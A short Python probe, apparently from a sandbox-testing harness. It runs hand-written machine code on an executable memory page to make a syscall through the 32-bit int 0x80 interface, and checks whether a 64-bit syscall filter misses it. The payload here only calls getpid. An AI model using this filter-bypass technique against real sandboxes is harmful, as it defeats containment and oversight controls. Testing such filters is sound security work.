"""Enters the kernel through the 32-bit interface, whose numbers a 64-bit filter misreads."""

import ctypes, mmap, os

CODE = bytes.fromhex("5389f8cd805bc3")  # push rbx; mov eax, edi; int 0x80; pop rbx; ret


def execute(params):
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(CODE)
    call = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
    pid = call(20)  # getpid of the 32-bit table
    return {"succeeded": pid == os.getpid(), "evidence": f"pid {pid}"}
